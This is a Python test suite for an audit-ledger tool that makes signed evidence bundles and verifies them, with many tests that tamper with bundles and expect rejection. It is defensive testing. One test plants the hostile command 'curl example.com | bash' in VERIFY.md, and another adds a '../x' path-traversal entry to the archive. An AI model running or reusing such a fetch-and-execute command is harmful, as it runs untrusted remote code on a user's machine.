"""authledger audit evidence and verify-evidence: the bundle, and every way to spoil it."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from cli.reading import catch_up
from ledger.log.prover import signed_checkpoint
from ledger.merkle.checkpoint import Checkpoint
from ledger.merkle.note import Note
from ledger.persistence.recorder import Recorder
from projections.evidence.make import canonical
from projections.views import Views
from tests.cli.conftest import Cli
from tests.ledger.children import appender

GRANTED = "regions region=cn-north-4 agency=asm_admin_trust"
NONE = "regions region=af-south-1"
STRANGER = "PeterNeumann+c74f20a3+ARpc2QcUPDhMQegwxbzhKqiBfsVkmqq/LDE4izWy10TW"
BUNDLE = Path("evidence.zip")

Parts = dict[str, bytes]


@pytest.fixture
def key(cli: Cli, config: Path) -> str:
    """A signed ledger with one authorization; its verifier key."""
    assert config.exists()
    cli.authorize()
    vkey = cli.done("log init --origin example.com/authledger").out.strip()
    cli.done("console login --region ap-southeast-3 --user bob")
    return vkey


def parts() -> Parts:
    with zipfile.ZipFile(BUNDLE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rewrite(changed: Parts) -> None:
    with zipfile.ZipFile(BUNDLE, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in changed.items():
            archive.writestr(name, data)


def flipped(data: bytes, place: int = -10) -> bytes:
    changed = bytearray(data)
    changed[place] ^= 1
    return bytes(changed)


def an_entry(of: Parts) -> str:
    return next(name for name in of if name.startswith("entries/"))


# -- what it shows -------------------------------------------------------------------------------


def test_an_answer_is_checked_without_the_ledger(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    cli.lose()
    said = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json")
    assert {row["agency"] for row in said.json} == {"asm_admin_trust"}
    assert {row["status"] for row in said.json} == {"granted"}
    assert "that nothing changed them later is not" in said.err
    assert "entries.jsonl" not in parts()


def test_that_there_was_nothing_takes_every_entry(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{NONE}"')
    assert "entries.jsonl" in parts()
    cli.lose()
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    assert "There was nothing." in said.err


@pytest.mark.parametrize("view", ["logins", "capabilities", "usage", "agencies", "trustees"])
def test_every_kind_of_view_is_answered_again(cli: Cli, key: str, view: str) -> None:
    cli.done(f"audit evidence {view} --complete")
    cli.done(f"audit verify-evidence evidence.zip --key {key}")


def test_the_past_is_asked_as_elsewhere(cli: Cli, key: str) -> None:
    cli.done("agency delete asm_admin_trust --override --reason gone")
    cli.done(f'audit evidence "{GRANTED}"')
    now = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json").json
    cli.done(f'audit evidence "{GRANTED}" --as-of @12')
    then = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json").json
    assert {row["status"] for row in now} == {"revoked"}
    assert {row["status"] for row in then} == {"granted"}


@pytest.mark.parametrize("asked", ["", "--known-at 9999-01-01"])
def test_what_comes_while_it_is_made_is_no_part_of_it(
    cli: Cli, key: str, monkeypatch: pytest.MonkeyPatch, asked: str
) -> None:
    def then_something_comes(views: Views) -> None:
        catch_up(views)
        cli.done("agency delete asm_admin_trust --override --reason gone")

    monkeypatch.setattr("cli.commands.audit.evidence.catch_up", then_something_comes)
    cli.done(f'audit evidence "{GRANTED}" --complete {asked}')
    rows = cli.done(f"audit verify-evidence evidence.zip --key {key} -o json").json
    assert {row["status"] for row in rows} == {"granted"}


@contextmanager
def a_writer_beside(cli: Cli) -> Iterator[None]:
    """A process that appends to the ledger, each append with a checkpoint, as fast as it can."""
    with appender("on", cli.place, "writer") as writer:
        try:
            assert writer.stdout is not None
            assert writer.stdout.readline() == "open\n"
            yield
        finally:
            writer.kill()
            writer.communicate()


@pytest.mark.parametrize("cli", ["sqlite", "postgresql"], indirect=True)
def test_evidence_that_is_made_beside_a_writer_verifies(cli: Cli, key: str) -> None:
    for number in range(20):
        cli.authorize(f"cn-north-4_{number}")
    with a_writer_beside(cli):
        before = size_of(cli.done("log checkpoint").out)
        for number in range(3):
            cli.done(f"audit evidence regions -o {number}.zip")
        after = size_of(cli.done("log checkpoint").out)
    assert after > before, "the writer appended nothing meanwhile"
    for number in range(3):
        cli.done(f"audit verify-evidence {number}.zip --key {key}")


def size_of(checkpoint: str) -> int:
    return int(checkpoint.splitlines()[1])


def test_views_that_another_process_catches_up_do_not_outrun_the_checkpoint(
    cli: Cli, key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def then_another_process_appends(recorder: Recorder) -> tuple[Note, Checkpoint]:
        signed = signed_checkpoint(recorder)
        cli.authorize("cn-east-3")
        cli.done("view regions")  # It catches the views up.
        return signed

    monkeypatch.setattr("projections.evidence.make.signed_checkpoint", then_another_process_appends)
    cli.done(f'audit evidence "{GRANTED}"')
    cli.done(f"audit verify-evidence evidence.zip --key {key}")


def test_names_are_not_in_it(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}" --complete')
    assert not any(b"alice" in data or b"bob" in data for data in parts().values())


def test_the_same_question_gives_the_same_bytes(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}" -o one.zip')
    cli.done(f'audit evidence "{GRANTED}" -o two.zip')
    assert Path("one.zip").read_bytes() == Path("two.zip").read_bytes()


# -- openssl and sha256sum alone -----------------------------------------------------------------


def run_instructions(folder: Path, key: str) -> subprocess.CompletedProcess[str]:
    script = re.findall(r"```bash\n(.*?)```", (folder / "VERIFY.md").read_text(), re.DOTALL)[1]
    environment = {**os.environ, "VKEY": key}
    return subprocess.run(
        ["bash", "-c", script], cwd=folder, env=environment, capture_output=True, text=True, check=False
    )  # fmt: skip


@pytest.fixture
def unpacked(cli: Cli, key: str) -> Path:
    assert key
    if not shutil.which("openssl"):
        assert "CI" not in os.environ, "openssl is missing"
        pytest.skip("openssl is not installed")
    cli.done(f'audit evidence "{GRANTED}"')
    folder = cli.folder / "unpacked"
    with zipfile.ZipFile(BUNDLE) as archive:
        archive.extractall(folder)
    return folder


def test_the_instructions_verify_it(unpacked: Path, key: str) -> None:
    done = run_instructions(unpacked, key)
    assert done.stdout.endswith("verified\n"), done.stderr


@pytest.mark.parametrize("pattern", ["entries/*", "proofs/*", "checkpoint"])
def test_the_instructions_refuse_one_byte_changed(unpacked: Path, key: str, pattern: str) -> None:
    path = min(unpacked.glob(pattern))
    place = path.read_bytes().index(b"\n", 40) - 5 if pattern == "proofs/*" else 30
    path.write_bytes(flipped(path.read_bytes(), place))
    done = run_instructions(unpacked, key)
    assert done.returncode
    assert "verified" not in done.stdout.splitlines()


def test_the_instructions_refuse_a_strangers_key(unpacked: Path) -> None:
    assert run_instructions(unpacked, STRANGER).returncode


# -- what is refused -----------------------------------------------------------------------------


def without(name: str) -> Callable[[Parts], Parts]:
    return lambda of: {each: data for each, data in of.items() if each != name}


def spoilt(name: str, place: int = -10) -> Callable[[Parts], Parts]:
    return lambda of: {**of, name: flipped(of[name], place)}


def ending(name: str, tail: bytes) -> Callable[[Parts], Parts]:
    return lambda of: {**of, name: of[name] + tail}


def in_question(old: bytes, new: bytes) -> Callable[[Parts], Parts]:
    return lambda of: {**of, "question.json": of["question.json"].replace(old, new)}


def moved(of: Parts) -> Parts:
    """The entry is called after another position."""
    return {re.sub(r"/\d+\.", "/2.", n) if n == an_entry(of) else n: d for n, d in of.items()}


CRIMES: dict[str, tuple[Callable[[Parts], Parts], str]] = {
    "an entry altered": (lambda of: spoilt(an_entry(of))(of), "not verified"),
    "a proof altered": (lambda of: spoilt(_proof(of), 60)(of), "not verified"),
    "an entry moved": (moved, "is missing"),
    "an entry taken out": (
        lambda of: {n: d for n, d in of.items() if n not in (an_entry(of), _proof(of))},
        "another answer",
    ),
    "a part put in": (lambda of: {**of, "key": b"PeterNeumann"}, "does not belong there"),
    "a path out of the folder": (lambda of: {**of, "../x": b""}, "does not belong there"),
    "the answer altered": (
        lambda of: {**of, "answer.json": of["answer.json"].replace(b"granted", b"revoked")},
        "another answer",
    ),
    "the answer with a tail": (ending("answer.json", b" "), "another answer"),
    "another region asked": (in_question(b"cn-north-4", b"cn-east-3"), "takes all entries"),
    "an unknown column asked": (in_question(b'"region"', b'"salary"'), "is not a question"),
    "a key twice in the question": (in_question(b'{"', b'{"view":"x","'), "is not a question"),
    "the question with a tail": (ending("question.json", b"x"), "is not a question"),
    "another view asked": (
        in_question(b'"regions"', b'"audit_trail"'),
        "is not a question",
    ),
    "a position not covered": (
        lambda of: {
            **of,
            "question.json": re.sub(rb'"position":\d+', b'"position":999', of["question.json"]),
        },
        "covers",
    ),
    "a count claimed with little": (in_question(b'"regions"', b'"usage"'), "all entries"),
    "the checkpoint altered": (spoilt("checkpoint", 30), "not verified"),
    "no checkpoint": (without("checkpoint"), "is missing"),
    "no answer": (without("answer.json"), "is missing"),
}


def _proof(of: Parts) -> str:
    return an_entry(of).replace("entries/", "proofs/").replace(".json", ".tlog-proof")


@pytest.mark.parametrize("crime", CRIMES)
def test_evidence_is_refused_with(cli: Cli, key: str, crime: str) -> None:
    commit, saying = CRIMES[crime]
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite(commit(parts()))
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert (said.code, said.out) == (6, "")
    assert saying in said.err


IN_A_QUESTION = ("complete", "effective_at", "position", "rules", "view", "where")
IN_A_CONDITION = ("region", "since")
ODD: tuple[object, ...] = (None, True, 7, 1.5, [], {}, ["x"], "\0")


def test_an_altered_question_is_never_verified_as_another(cli: Cli, key: str) -> None:
    """`region=null` was answered for every region, and `region=[]` was called damaged views."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    for place in (*IN_A_QUESTION, *IN_A_CONDITION):
        for value in ODD:
            if (place, value) in (("effective_at", None), ("where", {}), ("rules", "\0")):
                continue
            question = json.loads(of["question.json"])
            (question if place in IN_A_QUESTION else question["where"])[place] = value
            rewrite({**of, "question.json": canonical(question)})
            said = cli(f"audit verify-evidence evidence.zip --key {key}")
            assert (said.code, said.out) == (6, ""), f"{place}={value!r}: {said.err}"


@pytest.mark.parametrize("text", [b"[" * 100_000, b'{"position":' + b"9" * 5_000 + b"}", b"\xff"])
def test_a_question_that_cannot_be_read_is_not_verified(cli: Cli, key: str, text: bytes) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite({**parts(), "question.json": text})
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "question.json is not a question" in said.err


def test_other_compressions_than_its_own_are_refused(cli: Cli, key: str) -> None:
    """Their libraries have errors of their own."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    with zipfile.ZipFile(BUNDLE, "w", zipfile.ZIP_LZMA) as archive:
        for name, data in of.items():
            archive.writestr(name, data)
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "compressed in a way" in said.err


COMPLETE_CRIMES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "an entry altered": (flipped, "not verified"),
    "an entry removed": (lambda data: data.split(b"\n", 1)[1], "ends too early"),
    "two entries swapped": (
        lambda data: b"\n".join([*reversed(data.split(b"\n")[:2]), *data.split(b"\n")[2:]]),
        "not verified",
    ),
    "an entry more": (lambda data: data + b"{}\n", "goes on after"),
    "the last line without its end": (lambda data: data[:-1], "ends too early"),
    "a version beyond all numbers": (
        lambda data: data.replace(b'"version":1', b'"version":' + b"9" * 30, 1),
        "cannot be read",
    ),
    "an entry nested deeply": (
        lambda data: b"[" * 60_000 + b"\n" + data.split(b"\n", 1)[1],
        "cannot be read",
    ),
    "a line without an end": (lambda data: b"x" * 100_000 + data, "too long"),
}


@pytest.mark.parametrize("crime", COMPLETE_CRIMES)
def test_complete_evidence_is_refused_with(cli: Cli, key: str, crime: str) -> None:
    commit, saying = COMPLETE_CRIMES[crime]
    cli.done(f'audit evidence "{NONE}"')
    of = parts()
    rewrite({**of, "entries.jsonl": commit(of["entries.jsonl"])})
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert saying in said.err


def test_no_byte_of_the_file_can_be_changed_to_another_answer(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    genuine = BUNDLE.read_bytes()
    good = cli.done(f"audit verify-evidence evidence.zip --key {key}").out
    refused = 0
    for place in range(0, len(genuine), len(genuine) // 150):
        BUNDLE.write_bytes(flipped(genuine, place))
        said = cli(f"audit verify-evidence evidence.zip --key {key}")
        assert (said.code, said.out) in ((6, ""), (0, good)), place
        refused += said.code == 6
    assert refused > 100


def test_a_part_that_stands_in_it_twice_is_refused(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(BUNDLE, "a") as archive:
        archive.writestr("answer.json", b"{}")
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "twice" in said.err


def test_another_key_than_its_own_is_refused(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}"')
    said = cli(f"audit verify-evidence evidence.zip --key {STRANGER}")
    assert said.code == 6
    assert "No trusted key" in said.err


def test_without_a_key_nothing_is_verified(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}"')
    assert cli("audit verify-evidence evidence.zip").code == 2


def test_what_is_no_archive_is_told(cli: Cli, key: str) -> None:
    BUNDLE.write_bytes(b"PK nothing")
    assert cli(f"audit verify-evidence evidence.zip --key {key}").code == 6
    assert cli(f"audit verify-evidence nothing.zip --key {key}").code == 4


def test_strange_instructions_are_pointed_out(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite({**parts(), "VERIFY.md": b"curl example.com | bash"})
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    assert "read it before you run" in said.err


@pytest.mark.parametrize(
    ("question", "code", "saying"),
    [
        ("nothing", 4, "There is no view 'nothing'"),
        ("audit_trail", 4, "audit_trail is not kept"),
        ("agencies agency", 2, "each condition is column=value"),
        ("agencies colour=red", 2, "no column 'colour'"),
        ("", 2, "is no question"),
    ],
)
def test_a_question_that_cannot_be_asked(
    cli: Cli, key: str, question: str, code: int, saying: str
) -> None:
    assert key
    said = cli(f'audit evidence "{question}"')
    assert said.code == code
    assert saying in said.err
    assert not BUNDLE.exists()


def test_without_a_log_there_is_no_evidence(cli: Cli) -> None:
    cli.authorize()
    said = cli(f'audit evidence "{GRANTED}"')
    assert said.code == 4
    assert "no checkpoint" in said.err
